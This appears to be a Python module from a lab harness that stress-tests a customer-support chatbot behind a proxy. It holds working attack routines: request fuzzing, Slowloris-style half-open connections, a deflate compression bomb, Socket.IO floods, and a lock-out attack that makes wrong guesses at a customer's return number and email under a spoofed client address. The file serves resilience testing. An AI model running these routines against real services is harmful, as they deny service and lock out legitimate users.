"""The attacks of `python -m lab attack`: what one stranger, at one address, does to a desk until it is ended."""

from __future__ import annotations

import asyncio
import json
import os
import random
import secrets
import zlib
from collections.abc import Awaitable, Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass
from itertools import count
from multiprocessing.synchronize import Event
from typing import Final
from urllib.parse import urlsplit

import aiohttp

from lab.load.customers import Customer
from lab.load.hostile import ATTACK_RATE, Attacker
from lab.load.socket_flood import flood

#: The address of whoever attacks; no customer has it.
STRANGER: Final = "203.0.113.77"
_REST: Final = "/webhooks/rest"
_GIVES_WAY: Final = 10
#: Between two requests that are none; in seconds.
_FUZZ_PAUSE: Final = 0.01
#: How many half-open connections one stranger holds.
_HALF_OPEN: Final = 200
#: Kinds of floods that wear out memory rather than time, and those that are many small packets.
_LARGE: Final = ("binary", "long_texts", "one_long_message", "unread_pings", "polled_binary")
_SMALL: Final = ("events", "connects_and_disconnects", "pings", "fragments", "polled_opens")


@dataclass(frozen=True)
class Attacked:
    """Where a desk is attacked.

    Args:
        url: The address of the proxy in front of it.
        bot_url: That of the bot, past the proxy.
    """

    url: str
    bot_url: str


Attack = Callable[[Attacked, Customer], Awaitable[None]]


async def fuzz(desk: Attacked, _: Customer) -> None:
    """Requests that are no requests: broken, deep, foreign, contradictory, at every address of the gateway."""
    chance = random.Random(20)  # noqa: S311  # repeatable, not secret
    paths = (f"{_REST}/webhook", f"{_REST}/session", f"{_REST}/history", f"{_REST}/feedback", "/webhooks/telegram/")
    async with _stranger() as http:
        while True:
            headers = {"Content-Type": chance.choice(["application/json", "text/plain", "multipart/form-data", "\t"])}
            with suppress(aiohttp.ClientError, asyncio.TimeoutError, ValueError):
                async with http.request(
                    chance.choice(["POST", "POST", "PUT", "GET", "OPTIONS", "TRACE"]),
                    desk.url + chance.choice(paths),
                    data=chance.choice(_BODIES)(chance),
                    headers=headers,
                ) as response:
                    await response.read()
            await asyncio.sleep(_FUZZ_PAUSE)


def _mutated(chance: random.Random) -> bytes:
    body = bytearray(json.dumps({"sender": "s", "message": "where is my refund?", "message_id": "m"}).encode())
    for _ in range(chance.randrange(1, 8)):
        body[chance.randrange(len(body))] = chance.randrange(256)
    return bytes(body)


_BODIES: Final[Sequence[Callable[[random.Random], bytes]]] = (
    _mutated,
    lambda chance: chance.randbytes(chance.randrange(2_000)),
    lambda _: b"[" * 15_000,
    lambda _: json.dumps({"message": ["x"] * 2_000, "sender": {}}).encode(),
    lambda _: b'{"message": "' + b"\\ud800" * 2_000 + b'"}',
    lambda _: b"",
)


async def hostile_messages(desk: Attacked, _: Customer) -> None:
    """Messages that are made to be understood slowly, as many as one address may send."""
    await Attacker(desk.url).run()


async def packets(desk: Attacked, _: Customer) -> None:
    """Many small packets, pings and openings over Socket.IO, past the proxy, as fast as they are taken."""
    await _floods(desk, _SMALL)


async def memory(desk: Attacked, _: Customer) -> None:
    """What is made to be held: long frames, answers that nobody reads, bodies that unpack to a lot."""

    async def packed() -> None:
        body = zlib.compress(bytes(50_000_000))
        async with _stranger() as http:
            while True:
                with suppress(aiohttp.ClientError, asyncio.TimeoutError):
                    headers = {"Content-Encoding": "deflate", "Content-Type": "application/json"}
                    async with http.post(f"{desk.url}{_REST}/webhook", data=body, headers=headers) as response:
                        await response.read()

    await asyncio.gather(_floods(desk, _LARGE), packed())


async def half_open(desk: Attacked, _: Customer) -> None:
    """Connections that begin a request and go on with a byte a second, half at the proxy and half at the bot."""
    await asyncio.gather(*(_drip(desk.url if number % 2 else desk.bot_url, number) for number in range(_HALF_OPEN)))


async def _drip(url: str, number: int) -> None:
    address = urlsplit(url)
    begun = (
        f"POST {_REST}/webhook HTTP/1.1\r\nHost: desk\r\nX-Forwarded-For: {STRANGER}\r\n"
        + ("Content-Type: application/json\r\nContent-Length: 5000\r\n\r\n" if number % 4 < 2 else "X-Slow: ")
    ).encode()
    while True:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(address.hostname, address.port)
            try:
                writer.write(begun)
                while not writer.is_closing():
                    await writer.drain()
                    await asyncio.sleep(1)
                    writer.write(b" ")
            finally:
                writer.transport.abort()
        await asyncio.sleep(1)


async def lock_out(desk: Attacked, victim: Customer) -> None:
    """Wrong tries at a customer's number and address, from ever new conversations, to have nobody try them."""
    async with _stranger() as http:
        for number in count():
            tried = (victim.return_number, f"guess{number}@example.com")
            if number % 2:
                tried = (f"R{600_000 + number}", victim.email)
            text = f"Where is my return {tried[0]}? My e-mail address is {tried[1]}"
            with suppress(aiohttp.ClientError, asyncio.TimeoutError, KeyError):
                async with http.post(f"{desk.url}{_REST}/session", json={}) as response:
                    session = (await response.json())["session"]
                shown = {"Authorization": f"Bearer {session}"}
                async with http.post(f"{desk.url}{_REST}/webhook", json={"message": text}, headers=shown) as answer:
                    await answer.read()
            await asyncio.sleep(1 / ATTACK_RATE)


async def _floods(desk: Attacked, kinds: Sequence[str]) -> None:
    # A flood ends by itself; longer than anybody waits.
    await asyncio.gather(*(flood(desk.bot_url, kind, 3600.0, address=STRANGER) for kind in kinds))


def _stranger() -> aiohttp.ClientSession:
    headers = {"X-Forwarded-For": STRANGER, "User-Agent": secrets.token_hex(4)}
    return aiohttp.ClientSession(headers=headers, timeout=aiohttp.ClientTimeout(total=30))


#: The attacks by what the page calls them.
ATTACKS: Final[Mapping[str, Attack]] = {
    "fuzz": fuzz,
    "hostile messages": hostile_messages,
    "packets": packets,
    "memory": memory,
    "half-open": half_open,
    "lock-out": lock_out,
}


def play(name: str, desk: Attacked, victim: Customer, begun: Event) -> None:
    """Attack in a process of its own, which gives way to others: the stranger's machine is not the desk's.

    Args:
        name: One of `ATTACKS`.
        desk: What is attacked.
        victim: The customer whom it is about.
        begun: Set once it begins; what comes before costs this machine a lot.
    """
    os.nice(_GIVES_WAY)
    begun.set()
    asyncio.run(_until_ended(ATTACKS[name](desk, victim)))


async def _until_ended(attack: Awaitable[None]) -> None:
    await attack
